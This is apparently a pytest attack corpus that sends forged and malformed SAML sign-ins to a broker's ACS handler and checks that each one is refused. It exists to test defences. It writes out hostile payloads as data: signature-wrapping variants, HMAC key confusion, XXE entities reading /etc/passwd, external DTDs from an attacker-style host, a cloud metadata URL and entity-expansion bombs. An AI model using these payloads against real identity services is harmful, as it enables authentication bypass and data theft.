"""The attack corpus: every forged, replayed or malformed sign-in, through the real handler.

Each case starts from what the test IdP really signs (or from a plain
request) and is posted to ``POST /saml/acs`` of the Lambda handler over a hub
and two spokes in the emulator. Each must be refused with its status, a page
without internals, the security headers, no STS / CreateUserProfile /
presign call, no profile, no replay-table write, and one log line naming the
reason. test_saml.py covers the validator's rules one by one; this corpus
proves them end to end, as an attacker meets them.
"""

from __future__ import annotations

import base64
import time
import urllib.parse
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import pytest
import xmlsec
from lxml import etree

from broker.local.idp import (
    SAML,
    STATUS_RESPONDER,
    SamlIdentityProvider,
    encode,
)
from tests.adversarial import forge
from tests.adversarial.conftest import assert_refused, log_lines
from tests.functional.conftest import ACS_URL, ENTITY_ID, Landscape, acs_event, get_event

SKEW = 60  # ServiceProvider.clock_skew_seconds of the landscape
MAX_AGE = 300  # ServiceProvider.max_assertion_age_seconds
EVIL_ISSUER = "https://portal.sso.us-east-1.amazonaws.com/saml/assertion/EVILAPP"
PAGE_TEXT = {
    400: "malformed", 401: "could not be verified", 403: "do not have access",
    405: "cannot be opened directly", 413: "larger than the broker accepts",
}
# Refusals whose page says more than their status's.
REASON_TEXT = {f"{kind}_attribute_{problem}": "cannot tell it apart"
               for kind in ("user", "team") for problem in ("padded", "invisible_character")}


@dataclass
class Forger:
    """What an attacker has: genuine responses of the team1 application, their own key, time."""

    land: Landscape
    stranger: SamlIdentityProvider  # team1's issuer, a key the broker does not trust
    now: float

    @property
    def idp(self) -> SamlIdentityProvider:
        return self.land.idps["team1"]

    def xml(self, user: str = "user1", team: str = "team1", *, idp: SamlIdentityProvider | None = None,
            **overrides: Any) -> str:
        """A response as the team1 application (or ``idp``) signs it; ``overrides`` as build_response."""
        overrides.setdefault("now", self.now)
        overrides.setdefault("audience", ENTITY_ID)
        return (idp or self.idp).build_response(user_id=user, team_id=team, acs_url=ACS_URL, **overrides)


Forge = Callable[[Forger], dict[str, Any]]


def post(xml: str) -> dict[str, Any]:
    return field(encode(xml))


def field(value: str) -> dict[str, Any]:
    return acs_event(urllib.parse.urlencode({"SAMLResponse": value}))


def posted(make: Callable[[Forger], str]) -> Forge:
    """A case whose forgery is an XML document, posted base64 in the form."""
    return lambda f: post(make(f))


def attack(case_id: str, status: int, reason: str, make: Forge) -> Any:
    return pytest.param(make, status, reason, id=case_id)


# --- forgeries that need more than one line ----------------------------------------------------


def tampered(sign: str, change: Callable[[etree._Element], None]) -> Callable[[Forger], str]:
    return lambda f: forge.edited(f.xml(sign=sign), change)


def set_team(root: etree._Element) -> None:
    (value,) = forge.attribute_values(forge.assertion_of(root), "teamid")
    value.text = "team2"


def set_name_id(root: etree._Element) -> None:
    forge.assertion_of(root).find(f"{{{SAML}}}Subject/{{{SAML}}}NameID").text = forge.EVIL_USER


def hmac_signed(secret: Callable[[SamlIdentityProvider], bytes]) -> Callable[[Forger], str]:
    """Key confusion: an HMAC whose key is the IdP's public certificate, which anyone can fetch."""

    def make(f: Forger) -> str:
        root = forge.tree(f.xml(user=forge.EVIL_USER, sign="none"))
        forge.sign(root, place_in=forge.assertion_of(root), uri="#" + forge.assertion_of(root).get("ID"),
                   key=forge.hmac_key(secret(f.idp)), method=xmlsec.Transform.HMAC_SHA256,
                   cert_pem=f.idp.cert_pem)
        return forge.text(root)

    return make


def stranger_signs_response_over_genuine_assertion(f: Forger) -> str:
    root = forge.tree(f.xml(sign="assertion"))
    forge.sign(root, place_in=root, uri="#" + root.get("ID"), key=forge.rsa_key(f.stranger.key_pem),
               cert_pem=f.stranger.cert_pem)
    return forge.text(root)


def two_signed_assertions(f: Forger) -> str:
    """Two genuine signed assertions (the attacker's own and a second one) in one Response."""
    root = forge.tree(f.xml(user="attacker"))
    second = forge.assertion_of(forge.tree(f.xml(user=forge.EVIL_USER)))
    forge.assertion_of(root).addnext(second)
    return forge.text(root)


def reference_elsewhere(uri: Callable[[etree._Element], str]) -> Callable[[Forger], str]:
    """A signature by the real key, placed in the Assertion, whose Reference names another element."""

    def make(f: Forger) -> str:
        root = forge.tree(f.xml(sign="none"))
        forge.sign(root, place_in=forge.assertion_of(root), uri=uri(root),
                   key=forge.rsa_key(f.idp.key_pem), cert_pem=f.idp.cert_pem)
        return forge.text(root)

    return make


def with_second_attribute(name: str, value: str) -> Callable[[etree._Element], None]:
    def add(response: etree._Element) -> None:
        statement = forge.assertion_of(response).find(f"{{{SAML}}}AttributeStatement")
        attribute = etree.SubElement(statement, f"{{{SAML}}}Attribute", Name=name)
        etree.SubElement(attribute, f"{{{SAML}}}AttributeValue").text = value

    return add


def with_markup_in(name: str) -> Callable[[etree._Element], None]:
    def add(response: etree._Element) -> None:
        (value,) = forge.attribute_values(forge.assertion_of(response), name)
        value.text = None
        etree.SubElement(value, "b").text = "user1"

    return add


def without_assertion_issuer(response: etree._Element) -> None:
    assertion = forge.assertion_of(response)
    assertion.remove(assertion.find(f"{{{SAML}}}Issuer"))


def subject_not_before(seconds_ahead: float) -> Callable[[etree._Element], None]:
    def add(response: etree._Element) -> None:
        data = next(response.iter(f"{{{SAML}}}SubjectConfirmationData"))
        moment = time.gmtime(time.time() + seconds_ahead)
        data.set("NotBefore", time.strftime("%Y-%m-%dT%H:%M:%SZ", moment))

    return add


def in_response_to(where: str) -> Callable[[etree._Element], None]:
    """An answer to an AuthnRequest the broker never sent (signed by the genuine key)."""

    def answer(response: etree._Element) -> None:
        response.find(where).set("InResponseTo", "_request-of-another-sp")

    return answer


def xinclude_in_user(f: Forger) -> str:
    root = forge.tree(f.xml())
    (value,) = forge.attribute_values(forge.assertion_of(root), "userid")
    value.text = None
    include = etree.SubElement(value, "{http://www.w3.org/2001/XInclude}include")
    include.set("href", "file:///etc/passwd")
    include.set("parse", "text")
    return forge.text(root)


def content_type(value: str | None) -> Forge:
    def make(f: Forger) -> dict[str, Any]:
        event = post(f.xml())
        headers = {k: v for k, v in event["headers"].items() if k != "Content-Type"}
        if value is not None:
            headers["Content-Type"] = value
        event["headers"] = headers
        event["multiValueHeaders"] = {k: [v] for k, v in headers.items()}
        return event

    return make


def base64_event_body(raw: bytes) -> dict[str, Any]:
    return acs_event(base64.b64encode(raw).decode(), isBase64Encoded=True)


# --- the corpus --------------------------------------------------------------------------------

SIGNATURE_ATTACKS = [
    attack("unsigned", 401, "unsigned", posted(lambda f: f.xml(user=forge.EVIL_USER, sign="none"))),
    *(
        attack(f"attacker-key-with-cert-in-keyinfo-{sign}", 401, "signature_invalid",
               posted(lambda f, sign=sign: f.xml(user=forge.EVIL_USER, idp=f.stranger, sign=sign)))
        for sign in ("assertion", "response", "both")
    ),
    attack("attacker-signed-response-around-genuine-assertion", 401, "signature_invalid",
           posted(stranger_signs_response_over_genuine_assertion)),
    attack("hmac-keyed-with-idp-certificate-pem", 401, "signature_algorithm_not_allowed",
           posted(hmac_signed(lambda idp: idp.cert_pem.encode()))),
    attack("hmac-keyed-with-idp-certificate-der", 401, "signature_algorithm_not_allowed",
           posted(hmac_signed(lambda idp: forge.pem_der(idp.cert_pem)))),
    attack("userid-altered-after-signing", 401, "signature_invalid",
           posted(tampered("assertion", lambda r: forge.set_user(forge.assertion_of(r))))),
    attack("nameid-altered-after-signing", 401, "signature_invalid",
           posted(tampered("assertion", set_name_id))),
    attack("teamid-altered-after-signing-response-signed", 401, "signature_invalid",
           posted(tampered("response", set_team))),
    *(
        attack(f"xsw{n}", 401, "assertion_count",
               posted(lambda f, n=n: forge.xsw(n, f.xml(sign="response" if n <= 2 else "assertion"))))
        for n in range(1, 9)
    ),
    attack("two-signed-assertions", 401, "assertion_count", posted(two_signed_assertions)),
    attack("reference-to-the-response-from-the-assertion", 401, "signature_structure_invalid",
           posted(reference_elsewhere(lambda root: "#" + root.get("ID")))),
    attack("reference-to-the-whole-document", 401, "signature_structure_invalid",
           posted(reference_elsewhere(lambda root: ""))),
    *(
        attack(f"second-reference-to-{name}", 401, "signature_structure_invalid",
               posted(lambda f, uri=uri: forge.extra_reference(f.xml(), uri)))
        for name, uri in (("external-url", "http://169.254.169.254/latest/meta-data/"),
                          ("local-file", "file:///etc/passwd"), ("another-element", "#_other"))
    ),
    *(
        attack(f"transform-{name}", 401, "signature_algorithm_not_allowed",
               posted(lambda f, algorithm=algorithm, body=body: forge.extra_transform(
                   f.xml(), algorithm, body)))
        for name, algorithm, body in (
            ("xslt-exponential", forge.XSLT, forge.exponential_stylesheet(24)),
            ("xpath", forge.XPATH, forge.xpath_filter("count(//.) > 0")),
            ("xpath-filter2", "http://www.w3.org/2002/06/xmldsig-filter2", None),
            ("base64", "http://www.w3.org/2000/09/xmldsig#base64", None),
        )
    ),
    attack("signature-in-extensions", 401, "signature_structure_invalid",
           posted(lambda f: forge.signature_moved_to_extensions(f.xml()))),
    attack("signature-with-manifest-object", 401, "signature_structure_invalid",
           posted(lambda f: forge.with_manifest(f.xml(), "file:///etc/passwd"))),
    attack("planted-digest-in-extensions", 401, "signature_invalid",
           posted(lambda f: forge.plant_digest(f.xml(), "extensions"))),
    attack("planted-digest-in-signature-object", 401, "signature_structure_invalid",
           posted(lambda f: forge.plant_digest(f.xml(), "object"))),
    # xsi:type xs:string allows no child element: the schema refuses it before the digest does.
    attack("xinclude-in-userid", 401, "schema_invalid", posted(xinclude_in_user)),
    # The team the broker uses is the whole signed text: "team1-evil" (not bound), never "team1".
    attack("comment-injection-in-teamid-prefix", 403, "team_not_bound_to_application",
           posted(lambda f: forge.comment_split(f.xml(team="team1-evil"), "teamid", "team1-evil", 5))),
    attack("comment-injection-in-teamid-suffix", 403, "team_not_bound_to_application",
           posted(lambda f: forge.comment_split(f.xml(team="evil-team1"), "teamid", "evil-team1", 5))),
    *(
        attack(f"in-response-to-on-{name}", 401, "in_response_to_unsolicited",
               posted(lambda f, where=where: f.xml(before_sign=in_response_to(where))))
        for name, where in (("response", "."),
                            ("subject-confirmation-data", f".//{{{SAML}}}SubjectConfirmationData"))
    ),
    attack("rsa-sha1-signature", 401, "deprecated_algorithm",
           posted(lambda f: f.xml(signature_algorithm="sha1"))),
    attack("sha1-digest", 401, "deprecated_algorithm", posted(lambda f: f.xml(digest_algorithm="sha1"))),
]

TIME_ATTACKS = [
    attack("conditions-expired-beyond-skew", 401, "expired",
           posted(lambda f: f.xml(not_on_or_after=f.now - SKEW - 60, subject_not_on_or_after=f.now + 200))),
    attack("conditions-not-yet-valid-beyond-skew", 401, "not_yet_valid",
           posted(lambda f: f.xml(not_before=f.now + SKEW + 60))),
    attack("subject-confirmation-expired-beyond-skew", 401, "expired",
           posted(lambda f: f.xml(subject_not_on_or_after=f.now - SKEW - 60))),
    # Inside our skew, but python3-saml gives SubjectConfirmationData no drift: still refused.
    attack("subject-confirmation-expired-within-skew", 401, "subject_confirmation_invalid",
           posted(lambda f: f.xml(subject_not_on_or_after=f.now - 10))),
    attack("subject-confirmation-not-yet-valid-beyond-skew", 401, "not_yet_valid",
           posted(lambda f: f.xml(before_sign=subject_not_before(SKEW + 60)))),
    attack("subject-confirmation-without-expiry", 401, "subject_confirmation_expiry_missing",
           posted(lambda f: f.xml(subject_not_on_or_after=None))),
    attack("idp-clock-ahead-beyond-skew", 401, "issue_instant_in_future",
           posted(lambda f: f.xml(now=f.now + SKEW + 120))),
    attack("idp-clock-behind-beyond-max-age", 401, "issue_instant_too_old",
           posted(lambda f: f.xml(now=f.now - MAX_AGE - SKEW - 60, assertion_lifetime=3600))),
    attack("response-issue-instant-too-old", 401, "issue_instant_too_old",
           posted(lambda f: f.xml(issue_instant=f.now - MAX_AGE - SKEW - 10,
                                  assertion_issue_instant=f.now))),
    attack("assertion-issue-instant-too-old", 401, "issue_instant_too_old",
           posted(lambda f: f.xml(assertion_issue_instant=f.now - MAX_AGE - SKEW - 10))),
]


def _url_variants(name: str, url: str) -> list[tuple[str, str]]:
    host = urllib.parse.urlsplit(url).netloc
    return [
        (f"{name}-wrong", url.replace(host, "evil.example.net")),
        (f"{name}-prefix", url[:-1]),
        (f"{name}-superstring", url + "x"),
        (f"{name}-extra-path", url + "/extra"),
        (f"{name}-trailing-slash", url + "/"),
        (f"{name}-query", url + "?next=https://evil.example.net"),
        (f"{name}-upper-case-host", url.replace(host, host.upper())),
        (f"{name}-http", url.replace("https://", "http://")),
    ]


AUDIENCE_ATTACKS = [
    attack("audience-missing", 401, "audience_missing", posted(lambda f: f.xml(audience=None))),
    attack("audience-empty-list", 401, "audience_missing", posted(lambda f: f.xml(audience=[]))),
    attack("audience-wrong", 401, "audience_mismatch",
           posted(lambda f: f.xml(audience="urn:example:other-sp"))),
    attack("audience-prefix", 401, "audience_mismatch", posted(lambda f: f.xml(audience=ENTITY_ID[:-1]))),
    attack("audience-superstring", 401, "audience_mismatch",
           posted(lambda f: f.xml(audience=ENTITY_ID + "x"))),
    attack("audience-ours-and-another", 401, "audience_mismatch",
           posted(lambda f: f.xml(audience=[ENTITY_ID, "urn:example:other-sp"]))),
    attack("destination-missing", 401, "destination_missing", posted(lambda f: f.xml(destination=None))),
    *(attack(case_id, 401, "destination_mismatch", posted(lambda f, url=url: f.xml(destination=url)))
      for case_id, url in _url_variants("destination", ACS_URL)),
    attack("recipient-missing", 401, "recipient_missing", posted(lambda f: f.xml(recipient=None))),
    *(attack(case_id, 401, "recipient_mismatch", posted(lambda f, url=url: f.xml(recipient=url)))
      for case_id, url in _url_variants("recipient", ACS_URL)),
]

ISSUER_ATTACKS = [
    attack("issuer-unknown", 401, "unknown_issuer",
           posted(lambda f: f.xml(issuer=EVIL_ISSUER))),
    attack("issuer-superstring", 401, "unknown_issuer",
           posted(lambda f: f.xml(issuer=f.idp.issuer + "X"))),
    attack("issuer-prefix", 401, "unknown_issuer",
           posted(lambda f: f.xml(issuer=f.idp.issuer[:-1]))),
    attack("issuer-of-response-differs-from-assertion", 401, "issuer_mismatch",
           posted(lambda f: f.xml(response_issuer=f.land.idps["team2"].issuer))),
    attack("issuer-of-another-application-with-own-key", 401, "signature_invalid",
           posted(lambda f: f.xml(issuer=f.land.idps["team2"].issuer))),
    attack("issuer-missing-in-assertion", 401, "issuer_missing",
           posted(lambda f: f.xml(response_issuer=None, before_sign=without_assertion_issuer))),
    attack("team-not-bound-to-application", 403, "team_not_bound_to_application",
           posted(lambda f: f.xml(team="team2"))),
    attack("team-unknown", 403, "team_not_bound_to_application", posted(lambda f: f.xml(team="team9"))),
    attack("team-in-other-case", 403, "team_not_bound_to_application",
           posted(lambda f: f.xml(team="TEAM1"))),
]

CONTENT_ATTACKS = [
    attack("status-responder", 401, "status_not_success",
           posted(lambda f: f.xml(status_code=STATUS_RESPONDER))),
    attack("teamid-duplicated-same-value", 401, "team_attribute_repeated",
           posted(lambda f: f.xml(before_sign=with_second_attribute("teamid", "team1")))),
    attack("teamid-duplicated-other-value", 401, "team_attribute_repeated",
           posted(lambda f: f.xml(before_sign=with_second_attribute("teamid", "team2")))),
    attack("teamid-multi-valued", 401, "team_attribute_multi_valued",
           posted(lambda f: f.xml(attributes={"teamid": ["team1", "team2"]}))),
    attack("teamid-multi-valued-same-value", 401, "team_attribute_multi_valued",
           posted(lambda f: f.xml(attributes={"teamid": ["team1", "team1"]}))),
    attack("teamid-missing", 401, "team_attribute_missing",
           posted(lambda f: f.xml(attributes={"teamid": None}))),
    attack("teamid-empty", 401, "team_attribute_empty", posted(lambda f: f.xml(team=""))),
    attack("teamid-with-markup", 401, "schema_invalid",
           posted(lambda f: f.xml(before_sign=with_markup_in("teamid")))),
    attack("userid-missing", 401, "user_attribute_missing",
           posted(lambda f: f.xml(attributes={"userid": None}))),
    attack("userid-empty", 401, "user_attribute_empty", posted(lambda f: f.xml(user=""))),
    attack("userid-duplicated", 401, "user_attribute_repeated",
           posted(lambda f: f.xml(before_sign=with_second_attribute("userid", forge.EVIL_USER)))),
    attack("userid-multi-valued", 401, "user_attribute_multi_valued",
           posted(lambda f: f.xml(attributes={"userid": ["user1", forge.EVIL_USER]}))),
    attack("userid-with-markup", 401, "schema_invalid",
           posted(lambda f: f.xml(before_sign=with_markup_in("userid")))),
]

# Signed by the real application, but each reads as user1 or team1 (str.strip() made it so).
IDENTITY_ATTACKS = [
    *(
        attack(f"userid-{name}", 403, f"user_attribute_{problem}",
               posted(lambda f, user=user: f.xml(user=user)))
        for name, user, problem in (
            ("whitespace-only", " \n\t", "padded"), ("trailing-space", "user1 ", "padded"),
            ("leading-nbsp", "\u00a0user1", "padded"), ("trailing-newline", "user1\n", "padded"),
            ("trailing-em-space", "user1\u2003", "padded"),
            ("zero-width-space", "user\u200b1", "invisible_character"),
            ("bidi-override", "\u202euser1", "invisible_character"),
        )
    ),
    attack("teamid-trailing-space", 403, "team_attribute_padded", posted(lambda f: f.xml(team="team1 "))),
    attack("teamid-leading-newline", 403, "team_attribute_padded", posted(lambda f: f.xml(team="\nteam1"))),
    attack("teamid-byte-order-mark", 403, "team_attribute_invisible_character",
           posted(lambda f: f.xml(team="\ufeffteam1"))),
]

DTD_ATTACKS = [
    attack("doctype-internal-subset", 400, "xml_dtd_forbidden",
           posted(lambda f: forge.with_doctype(f.xml(), "<!DOCTYPE x [<!ELEMENT x ANY>]>"))),
    attack("external-entity-file", 400, "xml_dtd_forbidden",
           posted(lambda f: forge.with_doctype(
               f.xml(), '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "&xxe;"))),
    attack("external-dtd", 400, "xml_dtd_forbidden",
           posted(lambda f: forge.with_doctype(f.xml(), '<!DOCTYPE x SYSTEM "http://evil.invalid/x.dtd">'))),
    attack("parameter-entity", 400, "xml_dtd_forbidden",
           posted(lambda f: forge.with_doctype(
               f.xml(), '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.invalid/p.dtd"> %p;]>'))),
    # libxml2 stops entity amplification while parsing, before the DTD check runs.
    attack("billion-laughs", 400, "xml_invalid",
           posted(lambda f: forge.with_doctype(f.xml(), forge.BILLION_LAUGHS, "&lol9;"))),
    attack("quadratic-blowup", 400, "xml_invalid",
           posted(lambda f: forge.with_doctype(
               f.xml(), f'<!DOCTYPE x [<!ENTITY big "{"A" * 20000}">]>', "&big;" * 2000))),
]

REQUEST_ATTACKS = [
    attack("body-not-base64", 400, "base64_invalid", lambda f: field("%%%not*base64!")),
    attack("body-base64-of-text", 400, "xml_invalid", lambda f: field(encode("just some text"))),
    attack("body-base64-of-truncated-response", 400, "xml_invalid",
           lambda f: field(encode(f.xml()[:-40]))),
    attack("body-base64-of-other-xml", 400, "not_a_saml_response",
           lambda f: field(encode("<html><body>hi</body></html>"))),
    attack("body-base64-of-binary", 400, "xml_invalid",
           lambda f: field(base64.b64encode(bytes(range(256))).decode())),
    attack("saml-response-field-oversized", 413, "saml_response_too_large",
           lambda f: field("A" * (f.land.routing.service_provider.max_body_bytes + 4))),
    attack("body-oversized", 413, "body_too_large",
           lambda f: acs_event("SAMLResponse=" + "A" * f.land.routing.service_provider.max_body_bytes * 2)),
    attack("body-oversized-base64-encoded", 413, "body_too_large",
           lambda f: base64_event_body(
               b"SAMLResponse=" + b"A" * f.land.routing.service_provider.max_body_bytes)),
    attack("body-empty", 400, "saml_response_field_missing_or_repeated", lambda f: acs_event("")),
    attack("body-saml-response-repeated", 400, "saml_response_field_missing_or_repeated",
           lambda f: acs_event(urllib.parse.urlencode([("SAMLResponse", encode(f.xml()))] * 2))),
    attack("body-too-many-fields", 400, "form_not_parseable",
           lambda f: acs_event("&".join(f"f{i}=x" for i in range(20)))),
    attack("body-not-utf8", 400, "form_not_parseable", lambda f: base64_event_body(b"SAMLResponse=\xff\xfe")),
    attack("body-json", 400, "content_type_not_form",
           lambda f: {**content_type("application/json")(f), "body": '{"SAMLResponse": "x"}'}),
    attack("content-type-json", 400, "content_type_not_form", content_type("application/json")),
    attack("content-type-text", 400, "content_type_not_form", content_type("text/plain")),
    attack("content-type-multipart", 400, "content_type_not_form",
           content_type("multipart/form-data; boundary=x")),
    attack("content-type-missing", 400, "content_type_not_form", content_type(None)),
    attack("get-on-the-acs", 405, "acs_method_not_post", lambda f: get_event("/saml/acs")),
]

CORPUS = [*SIGNATURE_ATTACKS, *TIME_ATTACKS, *AUDIENCE_ATTACKS, *ISSUER_ATTACKS, *CONTENT_ATTACKS,
          *IDENTITY_ATTACKS, *DTD_ATTACKS, *REQUEST_ATTACKS]


@pytest.fixture(scope="module")
def stranger(signing_idps: dict[str, SamlIdentityProvider]) -> SamlIdentityProvider:
    return SamlIdentityProvider.generate(signing_idps["team1"].issuer)


@pytest.mark.parametrize(("make", "status", "reason"), CORPUS)
def test_attack_is_refused_and_creates_nothing(
    hub: Landscape, stranger: SamlIdentityProvider, broker_log: pytest.LogCaptureFixture,
    make: Forge, status: int, reason: str,
) -> None:
    event = make(Forger(hub, stranger, time.time()))
    response = hub.invoke(event)
    saml_response = urllib.parse.parse_qs(event.get("body") or "").get("SAMLResponse", [""])[0]
    assert_refused(hub, response, broker_log, status=status, reason=reason,
                   text=REASON_TEXT.get(reason, PAGE_TEXT[status]), posted=saml_response)
    assert forge.EVIL_USER not in response["body"]
    assert hub.replay_items() == 0


def test_a_refused_look_alike_id_is_logged_by_its_application_only(
    hub: Landscape, stranger: SamlIdentityProvider, broker_log: pytest.LogCaptureFixture,
) -> None:
    hub.invoke(post(Forger(hub, stranger, time.time()).xml(user="user1 ")))
    (line,) = [line for line in log_lines(broker_log) if line.get("message") == "sign-in refused"]
    assert (line["reason"], line["application"]) == ("user_attribute_padded", "studio-team1")
    assert "user" not in line and "team" not in line


def test_the_corpus_ids_are_unique() -> None:
    ids = [case.id for case in CORPUS]
    assert len(ids) == len(set(ids))
